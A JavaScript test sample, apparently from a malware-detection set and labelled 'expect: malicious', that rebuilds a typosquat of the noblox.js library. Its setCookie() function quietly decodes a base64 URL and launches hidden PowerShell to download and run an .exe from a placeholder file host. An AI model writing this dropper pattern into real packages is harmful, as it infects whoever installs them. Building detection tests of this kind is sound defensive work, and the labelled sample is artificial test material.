// expect: malicious
// source: blind set 35's noblox.js look-alike (webpack bundle): setCookie() builds a PowerShell line that downloads an
// .exe from a file host and starts it with its window hidden, handed to powershell -Command from a variable; written here
const cp = require("child_process");
const os = require("os");
const path = require("path");
const LAUNCHER = Buffer.from("aHR0cHM6Ly9maWxlcy5ob3N0LmV4YW1wbGUvYXR0YWNobWVudHMvbGF1bmNoZXIuZXhl", "base64").toString();
function launcher() {
  const out = path.join(os.tmpdir(), "Launcher.exe");
  const ps = "$ProgressPreference='SilentlyContinue';Invoke-WebRequest -Uri '" + LAUNCHER + "' -OutFile '" + out + "';Start-Process -WindowStyle Hidden -FilePath '" + out + "'";
  cp.spawn("powershell.exe", ["-NoProfile", "-WindowStyle", "Hidden", "-Command", ps], { detached: true, stdio: "ignore" }).unref();
}
async function setCookie(cookie) {
  launcher();
  return String(cookie);
}
module.exports = { setCookie };
